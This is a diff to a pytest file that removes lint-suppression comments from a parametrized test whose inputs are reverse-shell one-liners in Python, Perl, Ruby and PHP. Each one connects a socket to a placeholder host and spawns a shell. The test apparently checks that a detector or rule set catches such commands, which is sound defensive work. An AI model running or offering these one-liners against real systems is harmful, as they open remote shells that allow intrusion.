@@ -89,8 +89,8 @@ def test_a_statement_without_a_condition_takes_everything() -> None:
 @pytest.mark.parametrize(
     "line",
     [
-        'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("a",1));os.dup2(s.fileno(),0);pty.spawn("sh")\'',  # noqa: E501
-        'python3 -c \'import socket as k,subprocess as p;s=k.socket();s.connect(("a",1));p.call(["sh"],stdin=s.fileno())\'',  # noqa: E501
+        'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("a",1));os.dup2(s.fileno(),0);pty.spawn("sh")\'',
+        'python3 -c \'import socket as k,subprocess as p;s=k.socket();s.connect(("a",1));p.call(["sh"],stdin=s.fileno())\'',
         "perl -e 'use Socket;socket(S,1,1,0);connect(S,1);exec(\"/bin/sh -i\");'",
         'ruby -rsocket -e \'c=TCPSocket.new("a",1);exec "/bin/sh"\'',
         'php -r \'$s=fsockopen("a",1);exec("/bin/sh -i <&3");\'',
